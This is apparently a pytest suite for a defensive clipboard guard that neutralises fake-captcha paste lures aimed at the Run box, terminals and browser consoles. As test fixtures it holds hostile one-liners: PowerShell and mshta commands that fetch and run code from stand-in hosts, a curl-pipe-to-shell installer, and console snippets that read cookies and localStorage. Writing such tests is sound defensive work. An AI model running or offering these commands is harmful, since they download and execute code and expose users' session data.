"""The guard's decisions, with every OS part and the store faked: mode by mode, as a user meets it."""

from __future__ import annotations

import threading
import time
from collections.abc import Callable, Mapping, Sequence
from dataclasses import dataclass, replace
from datetime import UTC, datetime

import pytest

from app.detection import Context, Engine, Level, PasteTarget, Verdict
from app.events import Event
from app.guard.keys import PasteSequence
from app.guard.neutralize import COMMAND_LINE, LANGUAGES, NEUTRAL_LINE, neutral_line
from app.guard.provenance import Provenance
from app.guard.service import (
    BLOCKED_COMMAND,
    BLOCKED_TEXT,
    BURST_GAP,
    BURST_REPORT_EVERY,
    NOTICE_GAP,
    UNWRITTEN,
    ClipboardChange,
    GuardService,
    GuardSettings,
    PasteWarning,
    digest,
)
from app.platform.base import KeyEvent, MouseEvent, WindowInfo
from app.storage import QuarantineItem
from app.storage.store import corrected_details
from tests.fakes import FakeClock

MALICIOUS = 'powershell -w h -c "iwr https://evil.test/a.ps1 | iex"'
SUSPICIOUS = "curl -fsSL https://unknown-vendor.example/install.sh | sh"
INSTALLER = "irm https://get.scoop.sh | iex"
WEB = Provenance(source_url="https://captcha.example/verify")


class FakeStore:
    def __init__(self) -> None:
        self.events: list[Event] = []
        self.quarantine_items: dict[int, str] = {}
        self.idle_calls = 0
        self.idle = threading.Event()
        self.amends = 0
        self.refuse = 0  # amends refused before the next one succeeds
        self.unwritable = False  # appends wait in memory (a newer version's file, a full disk)

    def append(self, event: Event, *, original: str | None = None) -> int | None:
        if self.unwritable:
            return None
        self.events.append(event.with_id(len(self.events) + 1))
        if original is not None:
            self.quarantine_items[len(self.events)] = original
        return len(self.events)

    def flush(self) -> bool:
        return True

    def amend(
        self,
        event_id: int | None,
        corrected: Event,
        *,
        was: Event | None = None,
        original: str | None = None,
    ) -> bool:
        assert event_id is not None  # this store writes every event at once
        if self.refuse:  # a full disk: the file cannot be written now
            self.refuse -= 1
            return False
        if original is not None and event_id in self.quarantine_items:
            self.quarantine_items[event_id] = original
        old = self.events[event_id - 1]
        details = corrected_details(corrected.details, old.kind, old.action, old.details)
        self.events[event_id - 1] = replace(corrected, id=event_id, details=details)
        self.amends += 1
        return True

    def index_when_idle(self) -> bool:
        self.idle_calls += 1
        self.idle.set()
        return False

    def apply_retention(self) -> int:
        return 0

    def quarantined(self, event_id: int | None = None) -> QuarantineItem | None:
        items = sorted(self.quarantine_items.items())
        if event_id is not None:
            items = [(i, t) for i, t in items if i == event_id]
        if not items:
            return None
        event_id, text = items[-1]
        now = datetime.now(UTC)
        return QuarantineItem(event_id, event_id, text, now, now)

    def get(self, event_id: int) -> Event | None:
        return self.events[event_id - 1] if 0 < event_id <= len(self.events) else None

    @property
    def status(self) -> Mapping[str, object]:
        return {"events": len(self.events)}

    def kinds(self) -> list[str]:
        return [e.kind for e in self.events]


class FakeUI:
    def __init__(self) -> None:
        self.replaced: list[tuple[str, str]] = []
        self.notes: list[tuple[str, str, int | None]] = []
        self.warnings: list[PasteWarning] = []

    def replace_clipboard(self, expected_digest: str, text: str) -> None:
        self.replaced.append((expected_digest, text))

    def notify(self, title: str, message: str, restore_event_id: int | None = None) -> None:
        self.notes.append((title, message, restore_event_id))

    def warn(self, warning: PasteWarning) -> None:
        self.warnings.append(warning)

    def state_changed(self) -> None:
        pass


class FakeClassifier:
    def __init__(self, target: PasteTarget) -> None:
        self.target = target

    def classify(self, window: WindowInfo | None, hint: PasteTarget | None) -> PasteTarget:
        return hint or self.target


class FakeHolder:
    def __init__(self) -> None:
        self.held: list[str] = []
        self.released = 0
        self.has: str | None = None  # what the real holder would serve now

    def hold(self, text: str, after: int = 0) -> None:
        self.held.append(text)
        self.has = text

    def release(self) -> None:
        self.released += 1
        self.has = None

    def serving(self, text: str) -> bool:
        return self.has == text

    def can_serve(self, text: str) -> bool:
        return len(text.encode()) <= 256 * 1024


CTRL_V = KeyEvent("v", True, frozenset({"ctrl"}), 0.0)
RUN_BOX = WindowInfo("explorer.exe", "#32770", "Run")


@pytest.fixture(scope="module")
def engine() -> Engine:
    return Engine(strict=True)


def make(
    engine: Engine,
    mode: str = "block",
    target: PasteTarget = PasteTarget.RUN_DIALOG,
    can_suppress: bool = True,
    holder: FakeHolder | None = None,
    clock: Callable[[], float] = time.monotonic,
) -> tuple[GuardService, FakeStore, FakeUI]:
    store, ui = FakeStore(), FakeUI()
    service = GuardService(
        engine, store, ui, PasteSequence(strict=True), FakeClassifier(target), lambda: RUN_BOX, can_suppress,
        GuardSettings(mode=mode), holder=holder, clock=clock,
    )  # fmt: skip
    return service, store, ui


def copy(service: GuardService, text: str, provenance: Provenance = WEB) -> None:
    service.clipboard_changed(ClipboardChange(text, provenance))
    service.process_pending()


def test_block_mode_neutralises_a_malicious_clipboard_and_quarantines_it(engine: Engine) -> None:
    service, store, ui = make(engine)
    copy(service, MALICIOUS)
    assert ui.replaced == [(digest(MALICIOUS), NEUTRAL_LINE)]
    assert store.kinds() == ["clipboard_neutralized"]
    event = store.events[0]
    assert event.source == WEB.source_url and event.level == "malicious"
    assert "https://" not in (event.text or "")  # stored defanged
    assert store.quarantine_items[1] == MALICIOUS  # the original, restorable
    title, _, restore = ui.notes[0]
    assert "blocked" in title and restore == 1


def test_a_blocked_scam_text_is_not_called_a_command(engine: Engine) -> None:
    """A scam text with a number to call is taken off the clipboard too; its notice said
    "PasteGuard blocked a dangerous command", and there is no command in it."""
    service, store, ui = make(engine)
    scam = ("Your Norton subscription has been renewed for $499.99. If you did not authorize "
            "this charge call our billing desk at +1 (808) 555-0147 within 24 hours to cancel.")  # fmt: skip
    copy(service, scam)
    assert store.kinds() == ["clipboard_neutralized"] and store.events[0].level == "malicious"
    assert [n[0] for n in ui.notes] == [BLOCKED_TEXT]
    service, store, ui = make(engine)
    copy(service, MALICIOUS)
    assert [n[0] for n in ui.notes] == [BLOCKED_COMMAND]


def test_the_harmless_line_says_what_was_taken_and_where_pasteguard_is(engine: Engine) -> None:
    """The line left on the clipboard said "PasteGuard blocked a dangerous command … Open
    PasteGuard from its tray icon or window" for a scam text too, and under `run --no-tray`
    (no tray icon, no window). It says what was taken and where to look; and the guard still
    knows that line, written back to it by the clipboard, as its own."""
    scam = ("Your Norton subscription has been renewed for $499.99. If you did not authorize "
            "this charge call our billing desk at +1 (808) 555-0147 within 24 hours to cancel.")  # fmt: skip
    service, store, ui = make(engine)
    service.found_at = COMMAND_LINE
    copy(service, scam)
    line = ui.replaced[0][1]
    assert line == neutral_line("scam-text", COMMAND_LINE)
    assert "scam text" in line and "command" not in line.split(".")[0]
    assert "pasteguard restore --last" in line and "tray" not in line
    copy(service, line)  # Qt reports the guard's own write
    assert store.kinds() == ["clipboard_neutralized"] and service.current.neutralized
    service, store, ui = make(engine)
    copy(service, MALICIOUS)
    assert ui.replaced[0][1] == NEUTRAL_LINE and "tray icon" in NEUTRAL_LINE


def test_the_guards_own_replacement_is_not_analysed_again(engine: Engine) -> None:
    service, store, _ = make(engine)
    copy(service, MALICIOUS)
    copy(service, NEUTRAL_LINE)  # Qt reports the change the guard made itself
    assert store.kinds() == ["clipboard_neutralized"]
    assert service.current is not None and service.current.neutralized


def test_the_harmless_line_handed_over_again_keeps_the_text_blocked(engine: Engine) -> None:
    """Windows moves its clipboard counter each time the owner renders a format on demand, and
    Qt writes the harmless line so (OLE, delayed rendering): a program asking for another
    format made the reader hand the line over again. Recognised once only, the second time it
    was judged as a new copy (clean), the blocked text forgotten: a paste of it into the Run
    box was no longer recorded as an attempt."""
    service, store, _ = make(engine)
    copy(service, MALICIOUS)
    copy(service, NEUTRAL_LINE)  # the guard's own write, reported
    copy(service, NEUTRAL_LINE)  # ... and handed over again (a format rendered on demand)
    assert service.current is not None and service.current.neutralized
    assert service.on_key(CTRL_V) is False
    service.process_pending()
    assert store.kinds()[-1] == "paste_blocked" and store.events[-1].action == "neutralized"


def test_where_putting_it_back_is_forbidden_the_line_does_not_offer_it(engine: Engine) -> None:
    service, store, ui = make(engine)
    service.settings = GuardSettings(mode="block", allow_paste_anyway=False)
    copy(service, MALICIOUS)
    line = ui.replaced[0][1]
    assert line == neutral_line("command", "tray", "en", restorable=False)
    assert "put it back" not in line and "to see why." in line
    copy(service, line)  # its own write, reported back
    assert store.kinds() == ["clipboard_neutralized"] and service.current.neutralized


@pytest.mark.parametrize("language", LANGUAGES)
def test_the_line_in_each_language_is_known_as_the_guards_own(
    engine: Engine, language: str
) -> None:
    """The line is written in the interface's language; reported back by the clipboard (Qt's
    own write), then handed over again (Windows: a format rendered on demand), it is the
    guard's own each time: one event, the text still blocked. A line written in another
    language before the language changed is the guard's own too."""
    service, store, ui = make(engine)
    service.language = language
    copy(service, MALICIOUS)
    line = ui.replaced[0][1]
    assert line == neutral_line("command", "tray", language)
    assert (line == NEUTRAL_LINE) is (language == "en")
    copy(service, line)
    copy(service, line)
    assert store.kinds() == ["clipboard_neutralized"] and service.current.neutralized
    service.language = "ja" if language != "ja" else "de"  # changed while it is on the clipboard
    copy(service, line)
    assert store.kinds() == ["clipboard_neutralized"] and service.current.neutralized


def test_pasting_after_neutralisation_records_the_attempt_without_swallowing(
    engine: Engine,
) -> None:
    service, store, _ = make(engine)
    copy(service, MALICIOUS)
    assert service.on_key(CTRL_V) is False  # the clipboard is harmless now; let it paste
    service.process_pending()
    assert store.kinds()[-1] == "paste_blocked" and store.events[-1].action == "neutralized"


def test_suspicious_paste_into_the_run_box_is_swallowed_and_warned(engine: Engine) -> None:
    service, store, ui = make(engine)
    copy(service, SUSPICIOUS)
    assert ui.replaced == []  # suspicious text stays on the clipboard
    assert service.on_key(CTRL_V) is True
    service.process_pending()
    assert store.kinds() == ["clipboard_flagged", "paste_blocked"]
    (warning,) = ui.warnings
    assert warning.target is PasteTarget.RUN_DIALOG and warning.source == WEB.source_url
    assert store.events[-1].target == "run_dialog" and store.events[-1].action == "blocked"


def test_paste_into_an_editor_is_left_alone(engine: Engine) -> None:
    service, store, ui = make(engine, target=PasteTarget.OTHER)
    copy(service, SUSPICIOUS)
    assert service.on_key(CTRL_V) is False
    service.process_pending()
    assert ui.warnings == [] and store.kinds() == ["clipboard_flagged"]


def test_warn_mode_never_changes_the_clipboard(engine: Engine) -> None:
    service, store, ui = make(engine, mode="warn")
    copy(service, MALICIOUS)
    assert ui.replaced == []
    assert service.on_key(CTRL_V) is True  # held where the system allows, and warned
    service.process_pending()
    assert store.kinds() == ["clipboard_flagged", "paste_blocked"] and ui.warnings


def test_monitor_mode_only_records(engine: Engine) -> None:
    service, store, ui = make(engine, mode="monitor")
    copy(service, MALICIOUS)
    assert service.on_key(CTRL_V) is False
    service.process_pending()
    assert ui.replaced == [] and ui.warnings == []
    assert store.kinds() == ["clipboard_flagged", "paste_warned"]
    assert store.events[-1].action == "logged"


def test_an_installer_from_a_web_page_into_the_run_box_is_stopped(engine: Engine) -> None:
    service, store, _ui = make(engine)
    copy(service, INSTALLER)
    # info on its own and in a terminal: the copy is not flagged; the paste into Run is
    assert store.kinds() == []
    assert service.on_key(CTRL_V) is True
    service.process_pending()
    assert store.kinds() == ["paste_blocked"] and store.events[0].level == "malicious"


def test_an_installer_into_a_terminal_is_fine(engine: Engine) -> None:
    service, store, _ui = make(engine, target=PasteTarget.TERMINAL)
    copy(service, INSTALLER, Provenance())
    assert store.kinds() == [] and service.on_key(CTRL_V) is False


def test_clean_text_leaves_no_trace(engine: Engine) -> None:
    service, store, ui = make(engine)
    copy(service, "Meeting moved to 3pm")
    assert store.events == [] and ui.replaced == [] and service.on_key(CTRL_V) is False


def test_password_manager_secrets_are_never_analysed_or_stored(engine: Engine) -> None:
    service, store, ui = make(engine)
    copy(service, MALICIOUS, Provenance(secret=True))
    assert store.events == [] and ui.replaced == [] and service.current is None


def test_x11_holds_suspicious_text_and_refuses_guarded_requestors(engine: Engine) -> None:
    holder = FakeHolder()
    service, store, ui = make(
        engine, target=PasteTarget.TERMINAL, can_suppress=False, holder=holder
    )
    copy(service, SUSPICIOUS)
    assert holder.held == [SUSPICIOUS]
    assert service.requestor_allowed(PasteTarget.OTHER) is True
    assert service.requestor_allowed(PasteTarget.TERMINAL) is False
    for _ in range(3):  # xterm asks for three formats in one paste
        service.refused_paste(PasteTarget.TERMINAL, None)
    service.process_pending()
    assert store.kinds() == ["clipboard_flagged", "paste_blocked"] and len(ui.warnings) == 1
    copy(service, "plain text again")
    assert holder.released >= 1


def test_paused_protection_does_nothing_until_resumed(engine: Engine) -> None:
    service, store, ui = make(engine)
    service.pause(60)
    copy(service, MALICIOUS)
    assert ui.replaced == [] and service.on_key(CTRL_V) is False
    service.resume()
    copy(service, MALICIOUS)
    assert ui.replaced
    assert store.kinds() == ["protection_paused", "protection_resumed", "clipboard_neutralized"]


def test_trusted_site_suspicious_paste_is_only_logged(engine: Engine) -> None:
    service, _store, ui = make(engine, target=PasteTarget.TERMINAL)
    # a site with an ordinary name: a page named after captchas is a lure trait of its own
    # (PG-PAGE-DISGUISED), which makes the paste malicious, and no site setting waives that
    service.settings.trusted_sites = ("tools.example",)
    copy(service, SUSPICIOUS, Provenance(source_url="https://tools.example/setup"))
    assert service.on_key(CTRL_V) is False and ui.warnings == []


def test_a_failing_hook_never_raises(engine: Engine) -> None:
    service, _, _ = make(engine)

    def broken(event: KeyEvent) -> None:
        raise RuntimeError("boom")

    service.sequence.feed = broken  # type: ignore[method-assign]
    assert service.on_key(CTRL_V) is False


def test_the_hook_only_looks_up(engine: Engine) -> None:
    service, _, _ = make(engine, target=PasteTarget.TERMINAL)
    copy(service, SUSPICIOUS)

    def no_reading(*args: object) -> None:
        raise AssertionError("the hook analysed text")

    service.engine = no_reading  # type: ignore[assignment]
    assert service.on_key(CTRL_V) is True  # decided from the verdicts made in advance


def test_status_reports_mode_and_counts(engine: Engine) -> None:
    service, _, _ = make(engine, mode="warn")
    copy(service, SUSPICIOUS)
    status = service.status()
    assert status["mode"] == "warn" and status["protection"] == "on"
    assert status["counts"]["flagged"] == 1  # type: ignore[index]
    assert Level.SUSPICIOUS  # the level enum stays importable for callers


@dataclass(frozen=True)
class PrimaryGesture:
    kind: str = "paste"
    hint: PasteTarget | None = None
    selection: str = "primary"


def test_a_middle_click_paste_of_a_suspicious_selection_is_recorded_and_warned(
    engine: Engine,
) -> None:
    service, store, ui = make(engine, target=PasteTarget.TERMINAL, can_suppress=False)
    service.clipboard_changed(ClipboardChange(SUSPICIOUS, Provenance(), selection="primary"))
    service.process_pending()
    assert store.events == []  # a selection alone is not recorded: people select all day
    assert service.current is None and service.current_primary is not None
    service.sequence.feed_mouse = lambda event: PrimaryGesture()  # type: ignore[method-assign]
    service.on_mouse(MouseEvent("middle", True, 0.0))
    service.process_pending()
    assert store.kinds() == ["paste_warned"] and ui.warnings


def press(key: str, t: float, *mods: str, pressed: bool = True) -> KeyEvent:
    return KeyEvent(key, pressed, frozenset(mods), t)


def test_a_text_copied_again_is_judged_again(engine: Engine) -> None:
    # X11: the holder took the text, so Qt never reported the guard's own change
    holder, clock = FakeHolder(), FakeClock()
    service, store, _ = make(engine, target=PasteTarget.TERMINAL, can_suppress=False,
                             holder=holder, clock=clock)  # fmt: skip
    copy(service, SUSPICIOUS)
    copy(service, "something else")
    copy(service, SUSPICIOUS)  # held again at once; soon after the first, counted in its event
    assert holder.held == [SUSPICIOUS, SUSPICIOUS]
    assert store.kinds() == ["clipboard_flagged"]
    clock.advance(BURST_GAP)
    service.process_pending(clock.now)
    assert store.events[0].details["writes"] == 2
    copy(service, SUSPICIOUS)  # copied again later: an event of its own
    assert holder.held == [SUSPICIOUS] * 3
    assert store.kinds() == ["clipboard_flagged", "clipboard_flagged"]


def test_a_text_put_back_and_copied_later_is_judged_again(engine: Engine) -> None:
    service, store, ui = make(engine)
    copy(service, MALICIOUS)
    service.request_restore(None)
    service.process_pending()
    assert service.let_through(ui.warnings[-1].digest)
    copy(service, MALICIOUS)  # Qt reports the text put back: the guard's own write
    copy(service, "something else")
    copy(service, MALICIOUS)  # copied again from the page, later
    assert store.kinds().count("clipboard_neutralized") == 2


def test_each_change_is_read_once_and_its_event_shows_the_deciding_verdict(
    engine: Engine,
) -> None:
    service, store, _ = make(engine)
    readings = []
    read = engine.read

    def counted(text: str | bytes, contexts: Sequence[Context]) -> list[Verdict]:
        readings.append(text)
        return read(text, contexts)

    service.engine = type("Counted", (), {"read": staticmethod(counted)})()
    dump = "Object.keys(localStorage).forEach(k => console.log(k, localStorage[k]))"
    copy(service, dump)  # info on its own, suspicious pasted into the browser console
    assert readings == [dump]
    (event,) = store.events
    assert event.kind == "clipboard_flagged" and event.level == "suspicious"
    assert service.current is not None
    assert service.current.unaimed.level == Level.INFO
    assert service.current.levels[PasteTarget.BROWSER_CONSOLE] == Level.SUSPICIOUS


def test_a_command_flagged_only_for_the_run_box_is_judged_when_pasted_there(
    engine: Engine,
) -> None:
    service, store, _ = make(engine, target=PasteTarget.RUN_DIALOG)
    copy(service, "ipconfig /all", Provenance())  # harmless, yet no text for the Run box
    assert store.events == []  # copying it is no event: almost any command is one
    assert service.current is not None
    assert service.current.levels[PasteTarget.RUN_DIALOG] == Level.SUSPICIOUS
    assert service.on_key(CTRL_V) is True  # pasting it into the Run box is stopped


def test_one_paste_with_key_repeat_and_enter_is_one_event(engine: Engine) -> None:
    service, store, ui = make(engine)
    copy(service, SUSPICIOUS)
    service.on_key(press("ctrl", 1.0))
    swallowed = [service.on_key(press("v", 1.0 + i * 0.03, "ctrl")) for i in range(3)]
    service.on_key(press("v", 1.1, "ctrl", pressed=False))
    service.on_key(press("ctrl", 1.1, pressed=False))
    service.on_key(press("enter", 1.3))
    service.process_pending()
    assert swallowed == [True, True, True]
    pastes = [e for e in store.events if e.kind.startswith("paste_")]
    assert len(pastes) == 1 and len(ui.warnings) == 1
    assert pastes[0].details["repeats"] == 2 and pastes[0].details["executed"] is True


def test_restore_goes_through_the_warning_at_the_blocked_level(engine: Engine) -> None:
    service, _store, ui = make(engine)
    copy(service, MALICIOUS)
    service.request_restore(None)
    service.process_pending()
    warning = ui.warnings[-1]
    assert warning.restore_event == 1 and warning.verdict.level == Level.MALICIOUS
    assert ui.replaced == [(digest(MALICIOUS), NEUTRAL_LINE)]  # nothing put back yet
    assert service.let_through(warning.digest)
    assert ui.replaced[-1] == ("", MALICIOUS)


def console_service(engine: Engine) -> tuple[GuardService, FakeStore, FakeUI, WindowInfo]:
    browser = WindowInfo("chromium", "Chromium", "Lure page", pid=4242, handle=7)
    store, ui = FakeStore(), FakeUI()
    service = GuardService(
        engine, store, ui, PasteSequence(strict=True), FakeClassifier(PasteTarget.OTHER), lambda: browser,
        False, GuardSettings(mode="block"), holder=FakeHolder(),
    )  # fmt: skip
    return service, store, ui, browser


CONSOLE_SNIPPET = "console.log(document.cookie); document.title='PWNED'"  # suspicious


def test_the_held_text_is_refused_to_a_browser_console_and_the_warning_says_stopped(
    engine: Engine,
) -> None:
    service, store, ui, browser = console_service(engine)
    copy(service, CONSOLE_SNIPPET)
    assert service.current is not None and service.current.held
    service.on_key(press("f12", 1.0))  # DevTools open, docked: the same window
    service.on_key(press("v", 1.5, "ctrl"))
    # the browser asks for the text: the holder ties the request to that paste
    assert service.requestor_allowed(PasteTarget.OTHER, browser) is False
    service.refused_paste(PasteTarget.OTHER, browser)
    service.process_pending()
    (warning,) = ui.warnings
    assert warning.target is PasteTarget.BROWSER_CONSOLE and warning.suppressed is True
    (paste,) = [e for e in store.events if e.kind.startswith("paste_")]
    assert paste.kind == "paste_blocked" and paste.details["refused_by_holder"] is True


def test_a_paste_the_holder_gave_away_is_never_called_stopped(engine: Engine) -> None:
    service, store, ui, browser = console_service(engine)
    copy(service, CONSOLE_SNIPPET)
    service.on_key(press("f12", 1.0))
    service.served_paste(PasteTarget.OTHER, browser)  # the request came before the hook saw it
    service.on_key(press("v", 1.5, "ctrl"))
    service.process_pending()
    (warning,) = ui.warnings
    assert warning.suppressed is False  # "could not stop this paste: do not press Enter"
    (paste,) = [e for e in store.events if e.kind.startswith("paste_")]
    assert paste.kind == "paste_warned" and paste.action == "warned"


def test_a_malicious_text_is_never_trusted_by_site(engine: Engine) -> None:
    service, _, ui = make(engine, target=PasteTarget.TERMINAL)
    service.settings.trusted_sites = ("captcha.example",)
    service.trust_site("captcha.example", None, "test")
    service.settings.mode = "warn"  # kept on the clipboard, so the paste decides
    copy(service, MALICIOUS)
    assert service.on_key(CTRL_V) is True and ui.warnings


def test_on_x11_a_second_paste_brings_the_warning_back_but_one_paste_warns_once(
    engine: Engine,
) -> None:
    holder = FakeHolder()
    service, store, ui = make(engine, target=PasteTarget.TERMINAL, can_suppress=False,
                              holder=holder)  # fmt: skip
    copy(service, SUSPICIOUS)
    for attempt in range(2):
        service.on_key(press("v", 10.0 + attempt, "ctrl"))
        service.on_key(press("v", 10.1 + attempt, "ctrl", pressed=False))
        for _ in range(3):  # xterm asks for three formats in one paste
            service.refused_paste(PasteTarget.TERMINAL, None)
    service.process_pending()
    assert len(ui.warnings) == 2 and all(w.suppressed for w in ui.warnings)
    assert [e.kind for e in store.events if e.kind.startswith("paste_")] == ["paste_blocked"] * 2


def test_a_burst_skips_stale_texts_but_never_the_one_on_the_clipboard_now(engine: Engine) -> None:
    service, store, ui = make(engine)
    for n in range(50):
        service.clipboard_changed(ClipboardChange(f"ordinary text {n}", WEB))
    service.clipboard_changed(ClipboardChange(MALICIOUS, WEB))  # the newest: what is there now
    service.process_pending()
    assert service.counts["analysed"] == 1 and service.counts["skipped_stale"] == 50
    assert ui.replaced == [(digest(MALICIOUS), NEUTRAL_LINE)]
    assert store.kinds() == ["clipboard_neutralized"]


@pytest.mark.parametrize("order", ["hook first", "holder first", "alternating", "hook dead"])
def test_on_x11_every_paste_is_warned_at_once_whichever_thread_reports_it_first(
    engine: Engine, order: str
) -> None:
    # xterm's request reaches the holder's thread about when the key reaches the hook's; on a
    # loaded machine either comes first. A request that came first was taken for another
    # request of the paste before (its gesture was still recent): no warning until the paste
    # settled, 2 s later (the bench saw 2,033 ms), and its key became a paste of its own.
    clock = FakeClock()
    holder = FakeHolder()
    store, ui = FakeStore(), FakeUI()
    xterm = WindowInfo("xterm", "XTerm", "bash", pid=77)
    service = GuardService(
        engine, store, ui, PasteSequence(strict=True), FakeClassifier(PasteTarget.TERMINAL),
        lambda: xterm, False, GuardSettings(mode="block"), holder=holder, clock=clock,
    )  # fmt: skip
    copy(service, SUSPICIOUS)
    rounds = 6
    for n in range(rounds):
        hook_first = {"hook first": True, "holder first": False, "hook dead": False}.get(
            order, n % 2 == 0
        )

        def key() -> None:
            if order != "hook dead":
                service.on_key(press("v", clock.now, "ctrl", "shift"))
                service.on_key(press("v", clock.now, "ctrl", "shift", pressed=False))

        def requests() -> None:
            for _ in range(3):  # UTF8_STRING, then the older formats after each refusal
                service.refused_paste(PasteTarget.TERMINAL, xterm)

        before = len(ui.warnings)
        (key if hook_first else requests)()
        clock.advance(0.005)
        (requests if hook_first else key)()
        assert len(ui.warnings) == before + 1, f"paste {n} was not warned at once"
        assert ui.warnings[-1].suppressed is True
        service.process_pending(clock.now)  # what the worker does at once when woken
        clock.advance(0.75)  # Escape, the terminal in front again, the next Ctrl+Shift+V
    clock.advance(5.0)
    service.process_pending()
    assert len(ui.warnings) == rounds  # none came late, when a paste settled
    pastes = [e for e in store.events if e.kind.startswith("paste_")]
    assert len(pastes) == rounds
    assert all(e.kind == "paste_blocked" and e.details["refused_by_holder"] for e in pastes)
    if order != "hook dead":
        assert all(e.details["keys"] == "ctrl+shift+v" for e in pastes)


def test_on_x11_a_paste_of_a_text_the_holder_no_longer_has_is_not_called_stopped(
    engine: Engine,
) -> None:
    # The guard held the text, but the holder lost it (or stopped) and nobody told the guard:
    # nothing refuses the paste. It was recorded as held, no answer came, and the warning came
    # when the paste settled, 2 s later, saying the paste was stopped.
    holder = FakeHolder()
    service, store, ui = make(engine, target=PasteTarget.TERMINAL, can_suppress=False,
                              holder=holder)  # fmt: skip
    copy(service, SUSPICIOUS)
    assert service.status()["current"]["held"] is True  # type: ignore[index]
    assert service.holder_problem() is None
    holder.has = None
    assert service.status()["current"]["held"] is False  # type: ignore[index]
    assert service.holder_problem() is not None
    service.on_key(press("v", 10.0, "ctrl", "shift"))
    (warning,) = ui.warnings  # at once, from the hook
    assert warning.suppressed is False  # "could not stop this paste: do not press Enter"
    service.process_pending()
    assert len(ui.warnings) == 1
    (paste,) = [e for e in store.events if e.kind.startswith("paste_")]
    assert paste.kind == "paste_warned" and paste.details["held"] is False


def test_the_same_copy_handed_over_again_keeps_its_verdict_but_never_a_neutralized_one(
    engine: Engine,
) -> None:
    """Windows' reader hands a copy over again when a delayed format is rendered for another
    program: no second event, and a text the person let through stays let through. A blocked
    text copied again is blocked again, and after a pause every copy is judged."""
    service, store, ui = make(engine, mode="block")
    copy(service, SUSPICIOUS)
    copy(service, SUSPICIOUS)
    assert store.kinds() == ["clipboard_flagged"]
    current = service.current
    assert current is not None and service.let_through(current.digest)
    copy(service, SUSPICIOUS)  # the guard's own write, recognised once
    copy(service, SUSPICIOUS)  # ... and handed over again
    assert service.current is not None and service.current.allowed
    assert store.kinds() == ["clipboard_flagged"]
    copy(service, MALICIOUS)
    copy(service, MALICIOUS)  # the page wrote it again over the harmless line: blocked again
    assert [r for r in ui.replaced if r[1] == NEUTRAL_LINE] == [
        (digest(MALICIOUS), NEUTRAL_LINE)
    ] * 2
    # ... and counted in the first write's event (it was one event each until the page that
    # rewrote the clipboard in a loop made 25 a second, test_a_page_rewriting_the_clipboard_…)
    assert store.kinds().count("clipboard_neutralized") == 1
    service.pause(60)
    service.resume()
    copy(service, SUSPICIOUS)
    assert store.kinds().count("clipboard_flagged") == 2


def test_the_worker_gives_the_store_its_idle_moments_for_the_search_index(
    engine: Engine,
) -> None:
    service, store, _ui = make(engine)
    worker = threading.Thread(target=service.run_worker, daemon=True)
    worker.start()
    try:
        service._wake.set()  # a round with nothing queued
        assert store.idle.wait(5), "the worker never offered the store an idle moment"
    finally:
        service.stop_worker()
        worker.join(5)
    assert not worker.is_alive()
    assert store.idle_calls >= 1


def test_a_page_rewriting_the_clipboard_in_a_loop_is_one_event_blocked_every_time(
    engine: Engine,
) -> None:
    """setInterval(() => navigator.clipboard.writeText(lure), 40): every write is neutralised,
    but it is one event (and one notice), its count brought up to date while the writes go on
    and once when they stop, rather than 25 events a second that flood the log, the SIEM and
    the screen and push real events out of a log with max_events. Used to be two events for
    two writes (a deliberate change)."""
    clock = FakeClock()
    service, store, ui = make(engine, clock=clock)
    for _ in range(25 * 40):  # 40 s of it
        copy(service, MALICIOUS)
        copy(service, NEUTRAL_LINE)  # the guard's own write, reported back
        clock.advance(0.04)
        service.process_pending(clock.now)  # the worker's rounds
    assert len([r for r in ui.replaced if r[1] == NEUTRAL_LINE]) == 1000  # blocked every time
    assert service.counts["neutralized"] == 1000
    (event,) = store.events
    assert event.kind == "clipboard_neutralized" and len(ui.notes) == 1
    assert store.amends == 1  # brought up to date once BURST_REPORT_EVERY into the burst
    assert event.details["writes"] == BURST_REPORT_EVERY / 0.04 + 1
    assert event.details["burst_ended"] is False
    assert service.restorable == event.id and store.quarantine_items == {1: MALICIOUS}
    clock.advance(BURST_GAP)
    service.process_pending(clock.now)
    (event,) = store.events
    assert store.amends == 2 and event.details["writes"] == 1000
    assert event.details["burst_ended"] is True and event.details["revision"] == 2
    assert "put on the clipboard 1000 times within 40 s; it was blocked each time" in event.summary
    assert event.details["corrects"] == {
        "kind": "clipboard_neutralized", "action": "neutralized", "revision": 1,
        "earlier": [{"kind": "clipboard_neutralized", "revision": 0}],
    }  # fmt: skip
    clock.advance(60)
    service.process_pending(clock.now)
    assert store.amends == 2  # nothing more to say
    copy(service, MALICIOUS)  # the page writes it again a minute later: a new event
    assert store.kinds() == ["clipboard_neutralized"] * 2 and len(ui.notes) == 2


def test_distinct_texts_and_distinct_sources_stay_separate_events(engine: Engine) -> None:
    clock = FakeClock()
    service, store, ui = make(engine, clock=clock)
    other = 'powershell -w h -c "iwr https://evil.test/b.ps1 | iex"'
    chat = Provenance(source_url="https://chat.example/room")
    for _ in range(3):
        copy(service, MALICIOUS)
        copy(service, other)
        copy(service, MALICIOUS, chat)
        clock.advance(0.1)
    assert store.kinds() == ["clipboard_neutralized"] * 3
    assert [(e.sha256, e.source) for e in store.events] == [
        (digest(MALICIOUS), WEB.source_url), (digest(other), WEB.source_url),
        (digest(MALICIOUS), chat.source_url),
    ]  # fmt: skip
    clock.advance(BURST_GAP)
    service.process_pending(clock.now)
    assert [e.details["writes"] for e in store.events] == [3, 3, 3]
    # one notice at once, the newest of the others once NOTICE_GAP has passed
    assert [n[2] for n in ui.notes] == [1, 3]


def test_a_lure_with_a_counter_written_in_a_loop_is_one_event_keeping_its_versions(
    engine: Engine,
) -> None:
    """A page appending a counter (or a random suffix) to the same lure at every write made one
    event per write, 25 a second, flooding the SIEM and pushing real events out of a log with
    max_events. Writes judged the same for the same reasons are one event with their count and
    their distinct versions (the first and the last whole); other texts stay events of their own."""
    clock = FakeClock()
    service, store, ui = make(engine, clock=clock)
    lure = 'powershell -w h -c "iwr https://evil.test/a.ps1 | iex" # I am not a robot - ID: {}'
    for i in range(250):
        copy(service, lure.format(7000 + i))
        copy(service, NEUTRAL_LINE)
        clock.advance(0.04)
        service.process_pending(clock.now)
    # another payload's address, another command, a scam text: each an event of its own
    others = [
        'powershell -w h -c "iwr https://other.test/a.ps1 | iex" # I am not a robot - ID: 1',
        "mshta https://evil.test/verify.hta # I am not a robot - ID: 2",
    ]
    for other in others:
        copy(service, other)
    assert service.counts["neutralized"] == 252
    assert [r[1] for r in ui.replaced].count(NEUTRAL_LINE) == 252  # blocked every time
    assert store.kinds() == ["clipboard_neutralized"] * 3
    assert len({e.sha256 for e in store.events}) == 3
